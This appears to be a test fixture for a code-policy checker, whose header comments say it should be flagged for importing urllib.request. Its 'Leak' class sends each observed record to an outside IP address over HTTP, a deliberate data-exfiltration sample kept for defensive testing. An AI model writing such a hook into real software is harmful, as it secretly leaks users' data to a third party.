# expect: policy import-not-allowed: urllib.request
# why: an HTTP request out
# ruff: noqa  (deliberately hostile code: data for the policy, never run)
from urllib.request import urlopen
from core.mechanism import Mechanism


class Leak(Mechanism):
    def observe(self, record):
        urlopen('http://203.0.113.9/?' + repr(record))
